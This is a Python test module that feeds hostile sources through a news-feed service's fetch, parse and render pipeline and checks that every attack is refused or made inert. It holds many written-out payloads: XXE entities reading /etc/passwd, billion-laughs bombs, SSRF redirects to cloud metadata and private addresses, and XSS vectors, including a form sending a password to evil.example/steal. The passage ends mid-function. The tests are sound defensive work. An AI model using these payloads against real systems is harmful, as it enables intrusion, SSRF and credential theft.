"""Hostile sources and bad input, end to end through the real pipeline.

Every test here drives the stages as production does: a real loopback HTTP
server plays the hostile source, the real ``Fetcher`` (allowed to reach
127.0.0.0/8 and nothing else non-public) fetches it, ``fetch_and_store``
parses, normalises and stores into the real database (SQLite and
PostgreSQL), ``Publisher`` renders, and the Flask app serves what a reader
gets, which is parsed back with feedparser, ElementTree, json and an HTML
tokeniser. The unit tests of each stage (test_fetch, test_parse,
test_normalise, test_render) prove the guards one by one; these prove that
nothing slips between them:

1. a transport attack fails only its own source, loses nothing stored and
   does not advance the validators;
2. markup from a feed is never live in a published feed, a page or an admin
   page, and pages send a strict Content-Security-Policy;
3. bad text and absurd dates are cleaned, and every output still parses;
4. bad identity (repeated guids, no guid and no link, items that leave and
   come back) gives no duplicates and stable ids;
5. a generated corpus of a few hundred varied, broken documents gives either
   a ParseError or feeds that parse back, never another exception or a hang;
6. property tests chain the wire reader and the normaliser into the renderer.
"""

from __future__ import annotations

import dataclasses
import faulthandler
import gzip
import hashlib
import json
import os
import re
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from html import escape
from html.parser import HTMLParser
from ipaddress import ip_network
from pathlib import Path

import feedparser
import markupsafe
import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from conftest import ADMIN_TOKEN
from feedsvc.backoff import MAX_POLITE_WAIT, next_fetch_at
from feedsvc.catalog import load_catalog
from feedsvc.classify import MAX_CATEGORIES
from feedsvc.config import Settings
from feedsvc.errors import ConfigError, ParseError
from feedsvc.fetch import AddressPolicy, Fetcher, Limits
from feedsvc.guids import exact_guid
from feedsvc.model import (
    Article,
    Catalog,
    Desk,
    Document,
    RawItem,
    Source,
    SourceResult,
    Topic,
    Touched,
)
from feedsvc.normalise import normalise
from feedsvc.parse import ENTITIES_REFUSED, parse_feed
from feedsvc.publish import Publisher
from feedsvc.refresh import Refresher, fetch_and_store
from feedsvc.render import FORMATS, FeedSpec, render
from feedsvc.store import Store
from feedsvc.text import AUTHOR_LIMIT
from feedsvc.web import create_app
from feedsvc.wire import read_wire
from hostile_corpus import BREAKAGES, ENCODINGS, corpus
from hostile_corpus import FORMATS as CORPUS_FORMATS
from inbox_support import settle
from servers import LoopbackServer, Reply

LOOPBACK = AddressPolicy(allow_networks=(ip_network("127.0.0.0/8"),))
CAP = 256 * 1024
LIMITS = Limits(connect_timeout=1.0, total_timeout=1.0, max_bytes=CAP, max_redirects=3)

ATOM = "{http://www.w3.org/2005/Atom}"
CONTENT = "{http://purl.org/rss/1.0/modules/content/}"
LIVE_NAMESPACES = (
    "http://www.w3.org/1999/xhtml",
    "http://www.w3.org/2000/svg",
    "http://www.w3.org/1998/Math/MathML",
)

# Characters no published byte may carry: C0 and C1 controls (not tab, CR,
# LF), DEL, surrogates and the two XML non-characters.
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


# --------------------------------------------------------------------------- helpers


def rss(items: str, channel: str = "", namespaces: str = "") -> bytes:
    """An RSS 2.0 document around ``items`` (already XML), in UTF-8.

    A lone surrogate U+DC80..U+DCFF in the text becomes that raw byte
    (``surrogateescape``), which is how a test writes invalid UTF-8.
    """
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        f"{namespaces}><channel><title>Hostile</title><link>https://news.example/</link>"
        f"<description>d</description>{channel}{items}</channel></rss>"
    ).encode("utf-8", "surrogateescape")


def rss_item(
    guid: str | None,
    title: str,
    description: str = "<p>text</p>",
    *,
    link: str | None = None,
    date: str | None = "Mon, 23 Jun 2025 19:09:00 +0000",
    extra: str = "",
) -> str:
    """One RSS item; ``title`` and ``description`` are text, escaped here."""
    parts = [f"<title>{escape(title, quote=False)}</title>"]
    if guid is not None:
        parts.append(f"<guid isPermaLink='false'>{escape(guid)}</guid>")
    if link is not None:
        parts.append(f"<link>{escape(link)}</link>")
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    parts.append(f"<description>{escape(description, quote=False)}</description>")
    return "<item>" + "".join(parts) + extra + "</item>"


def feed_source(source_id: str, url: str, desk: str = "nym", **changes: object) -> Source:
    source = Source(id=source_id, kind="feed", desk=desk, every=timedelta(minutes=5), url=url)
    return dataclasses.replace(source, **changes)


def with_sources(catalog: Catalog, *extra: Source) -> Catalog:
    return dataclasses.replace(catalog, sources={**catalog.sources, **{s.id: s for s in extra}})


def run(store: Store, catalog: Catalog, fetcher: Fetcher, now: datetime) -> dict[str, SourceResult]:
    """One ingest of every enabled source, as ``feedsvc ingest`` does it."""
    store.sync_sources(catalog.sources.values(), now)
    enabled = [s for s in catalog.sources.values() if s.enabled]
    refresher = Refresher(store, fetcher.fetch, owner="test", clock=lambda: now)
    return {r.source_id: r for r in refresher.refresh_all(enabled, catalog)}


def snapshot(store: Store, source_id: str) -> list[tuple[str, str, str, datetime]]:
    return [
        (a.id, a.guid, a.fingerprint, a.published)
        for a in store.list_articles(source=source_id, limit=None)
    ]


def publish_and_serve(
    store: Store, catalog: Catalog, settings: Settings, now: datetime, feed_size: int = 50
) -> tuple[Flask, list[str]]:
    """Render every feed, then an app serving them; returns the app and every feed path."""
    publisher = Publisher(store, catalog, base_url=None, feed_size=feed_size)
    publisher.publish(None, now)
    app = create_app(
        {
            "TESTING": True,
            "SETTINGS": dataclasses.replace(settings, admin_token=ADMIN_TOKEN),
            "STORE": store,
        }
    )
    paths = [f"/{spec.path}.{fmt}" for spec in publisher.specs.values() for fmt in FORMATS]
    return app, paths


def get_ok(client: FlaskClient, path: str) -> TestResponse:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    return response


def is_http(url: str | None) -> bool:
    return bool(url) and re.match(r"https?://[^/\s]", url or "", re.IGNORECASE) is not None


@pytest.fixture
def catalog(feeds_dir: Path) -> Catalog:
    return load_catalog(feeds_dir)


@pytest.fixture
def fetcher() -> Fetcher:
    return Fetcher(LOOPBACK, LIMITS)


# --------------------------------------------------------------------------- 1. transfer limits

ORIGINAL = rss(rss_item("a", "Alpha", link="https://news.example/a"))
REPLACEMENT = rss(
    rss_item("a", "Alpha changed", link="https://news.example/a")
    + rss_item("z", "Zulu", link="https://news.example/z")
)
V1 = {"etag": '"v1"', "last_modified": "Tue, 01 Jul 2025 00:00:00 GMT"}
V2 = {"etag": '"v2"', "last_modified": "Wed, 02 Jul 2025 00:00:00 GMT"}
V2_HEADERS = {"ETag": '"v2"', "Last-Modified": V2["last_modified"]}


def _entity_feed(doctype: str, text: str) -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}\n<rss version="2.0"><channel>'
        f"<title>t</title><item><guid>x</guid><title>{text}</title>"
        f"<description>{text}</description></item></channel></rss>"
    )


_LAUGHS = "".join(
    f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
    for n in range(1, 10)
)
BILLION_LAUGHS = _entity_feed(f'<!DOCTYPE rss [<!ENTITY lol "lol">{_LAUGHS}]>', "&lol9;")
QUADRATIC = _entity_feed(f'<!DOCTYPE rss [<!ENTITY a "{"A" * 10_000}">]>', "&a;" * 2_000)
EXTERNAL_ENTITY = _entity_feed(
    '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"
)
EXTERNAL_PARAMETER = _entity_feed(
    '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/evil.dtd"> %ext;]>', "&evil;"
)
HTML_PAGE = b"<!DOCTYPE html><html><head><title>Blocked</title></head><body>Sign in</body></html>"


def _redirect(location: str) -> Reply:
    return Reply(status=302, headers={"Location": location, **V2_HEADERS})


# (id, routes the source's server answers with on the second fetch, expected error)
TRANSFER_ROWS: list[tuple[str, dict[str, Reply], str]] = [
    (
        "slow-drip-body",
        {"/feed": Reply(body=REPLACEMENT, drip=0.05, drip_headers=False, **V2)},
        "timed out after 1 s",
    ),
    (
        "slow-drip-headers",
        {"/feed": Reply(body=REPLACEMENT, drip=0.05, **V2)},
        "timed out after 1 s",
    ),
    (
        "gzip-bomb",
        {
            "/feed": Reply(
                body=gzip.compress(REPLACEMENT[:-20] + b" " * (16 * CAP), mtime=0),
                headers={"Content-Encoding": "gzip", "Content-Type": "application/rss+xml"},
                **V2,
            )
        },
        f"response larger than {CAP} bytes",
    ),
    (
        "announced-length-over-cap",
        {"/feed": Reply(body=REPLACEMENT, headers={"Content-Length": str(CAP * 100)}, **V2)},
        f"(Content-Length {CAP * 100})",
    ),
    (
        "redirect-loop",
        {"/feed": _redirect("/loop"), "/loop": _redirect("/feed")},
        "redirect loop at http://127.0.0.1:",
    ),
    (
        "too-many-hops",
        {
            "/feed": _redirect("/hop1"),
            "/hop1": _redirect("/hop2"),
            "/hop2": _redirect("/hop3"),
            "/hop3": _redirect("/hop4"),
            "/hop4": Reply(body=REPLACEMENT, **V2),
        },
        "too many redirects (more than 3)",
    ),
    (
        "lying-content-length",
        {
            "/feed": Reply(
                body=REPLACEMENT[:120], headers={"Content-Length": str(len(REPLACEMENT))}, **V2
            )
        },
        f"truncated response: 120 of {len(REPLACEMENT)} bytes",
    ),
    (
        "truncated-chunked",
        {
            "/feed": Reply(
                raw=b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nETag: "v2"\r\n\r\n'
                + f"{len(REPLACEMENT):x}\r\n".encode()
                + REPLACEMENT[:100]
            )
        },
        "truncated response",
    ),
    (
        "truncated-gzip",
        {
            "/feed": Reply(
                body=gzip.compress(REPLACEMENT, mtime=0)[:60],
                headers={"Content-Encoding": "gzip"},
                **V2,
            )
        },
        "truncated compressed response",
    ),
    ("blank-200", {"/feed": Reply(body=b" \r\n\t\n  ", **V2)}, "empty document"),
    (
        "html-page-served-as-rss",
        {"/feed": Reply(body=HTML_PAGE, headers={"Content-Type": "application/rss+xml"}, **V2)},
        "HTML page, not a feed",
    ),
    ("billion-laughs", {"/feed": Reply(body=BILLION_LAUGHS.encode(), **V2)}, ENTITIES_REFUSED),
    (
        "billion-laughs-utf-16",
        {
            "/feed": Reply(
                body=BILLION_LAUGHS.replace('encoding="utf-8"', 'encoding="utf-16"').encode(
                    "utf-16"
                ),
                **V2,
            )
        },
        ENTITIES_REFUSED,
    ),
    ("quadratic-blowup", {"/feed": Reply(body=QUADRATIC.encode(), **V2)}, ENTITIES_REFUSED),
    ("external-entity", {"/feed": Reply(body=EXTERNAL_ENTITY.encode(), **V2)}, ENTITIES_REFUSED),
    (
        "external-parameter-entity",
        {"/feed": Reply(body=EXTERNAL_PARAMETER.encode(), **V2)},
        ENTITIES_REFUSED,
    ),
    (
        "redirect-to-metadata",
        {"/feed": _redirect("http://169.254.169.254/latest/meta-data/")},
        "refused address 169.254.169.254 for host 169.254.169.254 (link-local",
    ),
    (
        "redirect-to-metadata-as-decimal",
        {"/feed": _redirect("http://2852039166/latest/meta-data/")},
        "refused address 169.254.169.254",
    ),
    (
        "redirect-to-private",
        {"/feed": _redirect("http://10.0.0.1/feed")},
        "refused address 10.0.0.1 for host 10.0.0.1 (private",
    ),
    (
        "redirect-to-ipv6-loopback",
        {"/feed": _redirect("http://[::1]:8080/feed")},
        "refused address ::1 for host ::1 (loopback",
    ),
    (
        "redirect-to-file",
        {"/feed": _redirect("file:///etc/passwd")},
        "bad URL 'file:///etc/passwd': refused scheme 'file'",
    ),
    (
        "redirect-to-gopher",
        {"/feed": _redirect("gopher://127.0.0.1:70/_x")},
        "refused scheme 'gopher'",
    ),
    (
        "redirect-to-data",
        {"/feed": _redirect("data:application/rss+xml;base64,PHJzcy8+")},
        "refused scheme 'data'",
    ),
    (
        "malformed-location",
        {"/feed": _redirect("http://[::1")},
        "invalid redirect Location 'http://[::1'",
    ),
    (
        "control-bytes-for-a-status-line",
        {"/feed": Reply(raw=b"\x00garbage\x01\x1b[2J\r\n\r\n")},
        "bad HTTP response from 127.0.0.1: garbage [2J",
    ),
    (
        "nul-in-encoding-declaration",
        {"/feed": Reply(body=b'<?xml version="1.0" encoding="x\x00y"?><rss/>', **V2)},
        "not a feed: unreadable (embedded null character)",
    ),
    (
        "absurd-retry-after",
        {"/feed": Reply(status=503, headers={"Retry-After": "9" * 5000})},
        "HTTP 503 Service Unavailable",
    ),
]


@pytest.mark.parametrize(
    ("routes", "expected"),
    [row[1:] for row in TRANSFER_ROWS],
    ids=[row[0] for row in TRANSFER_ROWS],
)
def test_hostile_transfer_fails_only_its_source(
    store: Store,
    catalog: Catalog,
    fetcher: Fetcher,
    now: datetime,
    routes: dict[str, Reply],
    expected: str,
) -> None:
    """A source with stored articles and validators turns hostile: it fails with
    a clear reason, loses nothing, keeps its validators, and the run goes on."""
    first = {
        "/feed": Reply(body=ORIGINAL, **V1),
        "/good": Reply(body=rss(rss_item("g1", "Good one", link="https://good.example/1"))),
    }
    with LoopbackServer(first) as server:
        hostile = feed_source("hostile", server.url("/feed"))
        good = feed_source("good", server.url("/good"), desk="europe")
        catalog = with_sources(catalog, hostile, good)
        assert run(store, catalog, fetcher, now)["hostile"].new == 1
        before = snapshot(store, "hostile")
        validators = store.source_state("hostile").validators  # type: ignore[union-attr]
        assert validators.etag == '"v1"'

        for path, reply in routes.items():
            server.route(path, reply)
        server.route(
            "/good",
            Reply(
                body=rss(
                    rss_item("g1", "Good one", link="https://good.example/1")
                    + rss_item("g2", "Good two", link="https://good.example/2")
                )
            ),
        )
        results = run(store, catalog, fetcher, now + timedelta(hours=1))

    failed = results["hostile"]
    assert not failed.ok
    assert expected in (failed.error or ""), failed.error
    assert failed.line() == f"hostile: error: {failed.error}"
    assert failed.touched == Touched() and failed.changed_ids == ()
    assert snapshot(store, "hostile") == before  # nothing stored, nothing lost
    state = store.source_state("hostile")
    assert state is not None
    assert state.validators == validators  # not advanced to "v2"
    assert state.error_count == 1
    assert results["good"].ok and results["good"].new == 1  # the same run went on
    assert results["nym-wire"].ok and results["europe-wire"].ok


DELAY_ROWS = [
    ("retry-after-seconds", Reply(status=503, headers={"Retry-After": "1" + "0" * 30})),
    (
        "retry-after-date",
        Reply(status=429, headers={"Retry-After": "Fri, 31 Dec 9999 23:59:59 GMT"}),
    ),
    ("max-age", Reply(body=ORIGINAL, headers={"Cache-Control": "max-age=" + "9" * 40})),
]


@pytest.mark.parametrize("reply", [row[1] for row in DELAY_ROWS], ids=[r[0] for r in DELAY_ROWS])
def test_absurd_delays_asked_by_a_source_are_capped(
    store: Store, catalog: Catalog, fetcher: Fetcher, now: datetime, reply: Reply
) -> None:
    """A Retry-After or max-age too large for timedelta raised OverflowError out
    of the fetcher and stopped the whole run."""
    with LoopbackServer({"/feed": reply}) as server:
        source = feed_source("slow", server.url("/feed"))
        results = run(store, with_sources(catalog, source), fetcher, now)
    result = results["slow"]
    assert (result.retry_after or result.max_age) == timedelta(days=365), result
    assert next_fetch_at(source, result, now, 0.0) == now + MAX_POLITE_WAIT
    assert results["nym-wire"].ok


def test_external_dtd_and_xinclude_are_never_fetched(
    store: Store, catalog: Catalog, fetcher: Fetcher, now: datetime, tmp_path: Path
) -> None:
    """A DOCTYPE naming an external DTD declares no entity itself, so the entity
    guard lets it through: the parser must still never fetch it, nor any
    XInclude, and the references stay unresolved."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-FILE")
    with LoopbackServer({"/evil.dtd": Reply(body=b'<!ENTITY xxe "TOP-SECRET-DTD">')}) as server:
        doctype = f'<!DOCTYPE rss SYSTEM "{server.url("/evil.dtd")}">'
        include = (
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
            f"href='{secret.as_uri()}' parse='text'/>"
        )
        body = _entity_feed(doctype, "Title &xxe;").replace(
            "</description>", f"</description>{include}"
        )
        server.route("/feed", Reply(body=body.encode()))
        source = feed_source("dtd", server.url("/feed"))
        result = fetch_and_store(source, with_sources(catalog, source), store, fetcher.fetch, now)
        assert server.hits("/feed") == 1
        assert server.hits("/evil.dtd") == 0
    stored = json.dumps(
        [a.to_json("http://127.0.0.1/") for a in store.list_articles(source="dtd", limit=None)]
    )
    assert "TOP-SECRET" not in stored and "TOP-SECRET" not in (result.error or "")


def _raw_feed(*header_lines: bytes) -> bytes:
    body = rss(rss_item("a", "Alpha", link="https://news.example/a"))
    head = b"HTTP/1.1 200 OK\r\n" + b"".join(line + b"\r\n" for line in header_lines)
    return head + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body


# (id, validator header lines a hostile server sends with a good feed)
VALIDATOR_ROWS: list[tuple[str, tuple[bytes, ...]]] = [
    ("nul-in-etag", (b'ETag: "v\x001"',)),
    ("nul-in-last-modified", (b"Last-Modified: Tue, 01 Jul 2025\x00 00:00:00 GMT",)),
    ("control-in-etag", (b'ETag: "v\x01\x1b[2J"', b"Last-Modified: \x7f")),
    ("huge-etag", (b'ETag: "' + b"e" * 20_000 + b'"',)),
]


@pytest.mark.parametrize(
    "headers", [row[1] for row in VALIDATOR_ROWS], ids=[row[0] for row in VALIDATOR_ROWS]
)
def test_hostile_validators_are_dropped_not_stored(
    store: Store, catalog: Catalog, fetcher: Fetcher, now: datetime, headers: tuple[bytes, ...]
) -> None:
    """Validators are stored and sent back on every fetch: junk in them must
    neither reach the database (PostgreSQL refuses NUL) nor go back on the wire."""
    with LoopbackServer({"/feed": Reply(raw=_raw_feed(*headers))}) as server:
        source = feed_source("junk", server.url("/feed"))
        catalog = with_sources(catalog, source)
        first = run(store, catalog, fetcher, now)
        second = run(store, catalog, fetcher, now + timedelta(hours=1))
        sent = server.requests("/feed")[-1].headers
    assert first["junk"].ok and first["junk"].new == 1, first["junk"]
    assert second["junk"].ok and second["junk"].not_modified, second["junk"]  # same body
    assert first["nym-wire"].ok and second["nym-wire"].ok
    state = store.source_state("junk")
    assert state is not None
    assert state.validators.etag is None and state.validators.last_modified is None
    assert "if-none-match" not in sent and "if-modified-since" not in sent


NON_HTTP_URLS = [
    ("file", "file:///etc/passwd"),
    ("gopher", "gopher://127.0.0.1:70/_x"),
    ("data", "data:application/rss+xml;base64,PHJzcy8+"),
    ("javascript", "javascript:alert(1)"),
]


@pytest.mark.parametrize(
    "url", [row[1] for row in NON_HTTP_URLS], ids=[r[0] for r in NON_HTTP_URLS]
)
def test_non_http_source_is_refused_when_configured_and_at_fetch_time(
    store: Store, catalog: Catalog, fetcher: Fetcher, now: datetime, feeds_dir: Path, url: str
) -> None:
    with (feeds_dir / "sources.toml").open("a", encoding="utf-8") as handle:
        handle.write(f'\n[odd]\nkind = "feed"\nurl = "{url}"\ndesk = "nym"\n')
    with pytest.raises(ConfigError) as caught:
        load_catalog(feeds_dir)
    assert any("[odd] url: bad URL" in problem for problem in caught.value.problems)

    # A source that reached the fetcher another way (the API, an old database row).
    source = feed_source("odd", url)
    result = fetch_and_store(source, with_sources(catalog, source), store, fetcher.fetch, now)
    assert not result.ok
    assert "refused scheme" in (result.error or "")
    assert "only http and https are fetched" in (result.error or "")


# --------------------------------------------------------------------------- 2. content injection

# (id, HTML an item carries, a word that must survive to prove the item arrived)
VECTORS: list[tuple[str, str, str]] = [
    (
        "script",
        "<p>keep script</p><script>alert(1)</script><SCRIPT SRC=//e.example/x.js>",
        "script",
    ),
    (
        "event-handlers",
        '<img src="https://img.example/a.png" onerror="alert(1)">'
        "<p onclick=\"alert(1)\" ONMOUSEOVER=alert(2) onfocus = 'x'>keep handlers</p>"
        "<body onload=alert(3)>",
        "handlers",
    ),
    (
        "javascript-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'
        'keep entities</a><a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A'
        'alert(2)">x</a><a href="javascript&colon;alert(3)">y</a>',
        "entities",
    ),
    (
        "javascript-tabs-newlines",
        '<a href="jav\tascript:alert(1)">keep tabs</a><a href="jav&#x09;ascript:alert(2)">t</a>'
        '<a href="java\nscript:alert(3)">n</a><a href="java&#10;script:alert(4)">n</a>'
        '<a href=" &#1;javascript:alert(5)">c</a><a href="JaVaScRiPt:alert(6)">m</a>'
        '<a href="vbscript:msgbox(1)">v</a>',
        "tabs",
    ),
    (
        "data-urls",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">keep data</a>'
        "<img src=\"data:image/svg+xml,&lt;svg onload='alert(1)'&gt;\">"
        '<a href="DATA:text/html,x">d</a>',
        "data",
    ),
    (
        "iframe",
        '<iframe src="https://evil.example/" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'
        "</iframe><frameset><frame src='javascript:alert(2)'></frameset><p>keep iframe</p>",
        "iframe",
    ),
    (
        "form-input",
        '<form action="https://evil.example/steal"><input name="password" type="password">'
        '<button formaction="javascript:alert(1)">go</button><textarea>t</textarea>'
        "<select><option>o</option></select></form><p>keep form</p>",
        "form",
    ),
    ("base", '<base href="https://evil.example/"><a href="/relative">keep base</a>', "base"),
    (
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
        '<meta http-equiv="Set-Cookie" content="a=b"><p>keep meta</p>',
        "meta",
    ),
    (
        "srcset",
        '<img src="https://img.example/b.png" srcset="javascript:alert(1) 1x, '
        'https://evil.example/x.png 2x"><picture><source srcset="javascript:alert(2)">'
        "</picture><p>keep srcset</p>",
        "srcset",
    ),
    (
        "svg",
        '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">'
        "<text>svgtext</text></a><animate attributeName='href' to='javascript:alert(4)'/>"
        "</svg><p>keep svg</p>",
        "svg",
    ),
    (
        "mathml",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction>'
        "<mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table>"
        "</mtext></math><p>keep math</p>",
        "math",
    ),
    (
        "style",
        "<style>body{background:url(javascript:alert(1))}</style>"
        '<p style="background:url(javascript:alert(2)); behavior:url(x.htc)">keep style</p>'
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "style",
    ),
    (
        "comments-and-cdata",
        "<p>keep comments</p><!--><script>alert(1)</script>--><![CDATA[<script>alert(2)</script>]]>"
        "<!--[if IE]><script>alert(3)</script><![endif]-->",
        "comments",
    ),
    (
        "mutation-xss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">keep mutation</p></noscript>'
        '<table><td><a href="javascript:alert(2)">t</a></td></table>'
        "<object data='javascript:alert(3)'></object><embed src='javascript:alert(4)'>",
        "mutation",
    ),
]
TITLE_VECTOR = "<b>x</b><script>alert('title')</script>"
TITLE_TEXT = "xalert('title')"  # the vector once its tag-like parts are gone
MARKERS = [f"keep {row[2]}" for row in VECTORS]


def _hostile_rss(prefix: str, well_formed: bool = True) -> bytes:
    """Every vector as an RSS item, escaped in description and in CDATA in content.

    With ``well_formed`` False a vector's own ``]]>`` is left to end the CDATA
    section early, so the document is malformed and feedparser's lenient
    fallback parser reads it: hostile markup must not survive that path either.
    """
    items = []
    for number, (name, html, _) in enumerate(VECTORS):
        cdata = html.replace("]]>", "]]]]><![CDATA[>") if well_formed else html
        items.append(
            rss_item(
                f"{prefix}-{name}",
                f"{prefix} {name}",
                html,
                link=f"https://news.example/{prefix}/{number}",
                extra=f"<content:encoded><![CDATA[{cdata}]]></content:encoded>",
            )
        )
    hostile_links = [
        ("javascript-link", "javascript:alert(1)"),
        ("tab-javascript-link", " jav\tascript:alert(1)"),
        ("data-link", "data:text/html,<script>alert(1)</script>"),
    ]
    for name, link in hostile_links:
        items.append(rss_item(f"{prefix}-{name}", f"{prefix} {name}", "<p>link</p>", link=link))
    items.append(
        rss_item(
            f"{prefix}-title",
            TITLE_VECTOR,
            "<p>title markup</p>",
            link=f"https://news.example/{prefix}/title",
        )
    )
    items.append(
        f"<item><guid isPermaLink='true'>javascript:alert('{prefix}')</guid><title>{prefix} "
        "permalink</title><description>guid</description><author>eve@evil.example (Eve "
        "&lt;script&gt;alert(1)&lt;/script&gt;)</author></item>"
    )
    items.append(
        # A CDATA section split to smuggle "]]>" and a script after it.
        f"<item><guid>{prefix}-cdata-split</guid><title>{prefix} cdata split</title>"
        "<content:encoded><![CDATA[<p>keep split</p>]]]]><![CDATA[><script>alert(1)</script>]]>"
        "</content:encoded></item>"
    )
    return rss("".join(items))


def _hostile_atom() -> bytes:
    entries = []
    for number, (name, html, _) in enumerate(VECTORS):
        entries.append(
            f"<entry><id>urn:atom:{name}</id><title>Atom {name}</title>"
            f"<updated>2025-06-23T19:09:00Z</updated>"
            f"<link rel='alternate' href='https://news.example/atom/{number}'/>"
            f"<summary type='html'>{escape(html, quote=False)}</summary>"
            f"<content type='html'>{escape(html, quote=False)}</content></entry>"
        )
    entries.append(
        "<entry><id>urn:atom:xhtml</id><title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
        "<b>xhtml</b><script>alert('t')</script></div></title><updated>2025-06-23T19:09:00Z</updated>"
        "<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
        "<p onclick='alert(1)'>keep xhtml</p><script>alert(2)</script>"
        "<a href='javascript:alert(3)'>j</a><iframe src='https://evil.example/'/>"
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4)'/></div></content></entry>"
    )
    entries.append(
        "<entry xml:base='javascript:alert(1)//'><id>urn:atom:xml-base</id><title>Atom base</title>"
        "<updated>2025-06-23T19:09:00Z</updated><link href='/relative'/>"
        "<content type='html'>&lt;a href='/rel'&gt;keep xmlbase&lt;/a&gt;</content></entry>"
    )
    entries.append(
        "<entry><id>urn:atom:titles</id>"
        f"<title type='html'>{escape(TITLE_VECTOR, quote=False)}</title>"
        "<updated>2025-06-23T19:09:00Z</updated><link href='javascript:alert(1)'/>"
        "<author><name>&lt;img src=x onerror=alert(1)&gt;Mallory</name></author>"
        "<content type='text'>&lt;script&gt;alert('text content')&lt;/script&gt;</content></entry>"
    )
    entries.append(
        "<entry><id>urn:atom:plain-title</id>"
        f"<title type='text'>{escape(TITLE_VECTOR, quote=False)}</title>"
        "<updated>2025-06-23T19:09:00Z</updated>"
        "<content type='html' src='javascript:alert(1)'/><summary>plain title</summary></entry>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>Hostile Atom</title><id>urn:hostile</id><updated>2025-06-23T19:09:00Z</updated>"
        + "".join(entries)
        + "</feed>"
    ).encode()


class _Tags(HTMLParser):
    """Every start tag with its attributes (entities decoded), as a browser tokenises them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def tokenise(html: str) -> _Tags:
    tags = _Tags()
    tags.feed(html)
    tags.close()
    return tags


# Elements that run code, load other documents, submit data or restyle the page.
LIVE_TAGS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
        "input", "button", "textarea", "select", "base", "meta", "link", "svg", "math",
        "style", "template", "noscript", "body", "html", "head", "picture", "source",
    }
)  # fmt: skip
LIVE_ATTRIBUTES = frozenset(
    {"style", "srcset", "srcdoc", "formaction", "action", "xlink:href", "background", "data"}
)
# Elements that would be live if a reader took the feed's XML itself as HTML
# (RSS's own <link> and Atom's <source> are feed vocabulary, not these).
XML_LIVE_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "form", "base", "meta", "style", "svg", "math"}
)
RAW_LIVE_TAG = re.compile(
    r"<\s*/?\s*(?:script|iframe|frame|form|base|meta|svg|math|object|embed|style)\b", re.I
)
RAW_PAGE_LIVE_TAG = re.compile(
    r"<\s*/?\s*(?:script|iframe|frame|base|svg|math|object|embed|applet)\b", re.I
)
RAW_HANDLER = re.compile(r"\son\w+\s*=", re.I)


def assert_inert(html: str, where: str) -> None:
    """A fragment that is shown as HTML: nothing in it may run, load or submit."""
    assert not RAW_LIVE_TAG.search(html), (where, html)
    for tag_text in re.findall(r"<[^>]*>", html):
        assert not RAW_HANDLER.search(tag_text), (where, tag_text)
        assert "javascript:" not in tag_text.lower(), (where, tag_text)
    for tag, attrs in tokenise(html).tags:
        assert tag not in LIVE_TAGS, (where, tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (where, tag, name)
            assert name not in LIVE_ATTRIBUTES, (where, tag, name)
            if name in ("href", "src"):
                assert is_http(value), (where, tag, name, value)


def assert_page_inert(html: str, where: str) -> None:
    """A whole page: our own furniture allowed, nothing live from outside.

    The page's own ``<meta charset>``, ``<link>`` to its own paths, one
    ``<style>`` and (on admin pages) forms posting to /admin/ are the only such
    elements.
    """
    tags = tokenise(html)
    styles = 0
    for tag, attrs in tags.tags:
        attributes = dict(attrs)
        assert tag not in {"script", "iframe", "frame", "object", "embed", "base", "svg", "math"}, (
            where,
            tag,
        )
        if tag == "meta":
            assert "http-equiv" not in attributes, (where, attrs)
        if tag == "style":
            styles += 1
        if tag == "link":  # only our own: feeds, the admin stylesheet and icon
            assert (attributes.get("href") or "").startswith("/"), (where, attrs)
        if tag == "form":
            action = attributes.get("action") or ""
            searching = action == "/search" and attributes.get("method") == "get"  # GET: no CSRF
            assert action.startswith("/admin/") or searching, (where, attrs)
        for name, value in attrs:
            assert not name.startswith("on"), (where, tag, name)
            assert name not in {"style", "srcset", "srcdoc", "formaction"}, (where, tag, name)
            if name in ("href", "src", "action"):
                local = (value or "").startswith("/") and not (value or "").startswith("//")
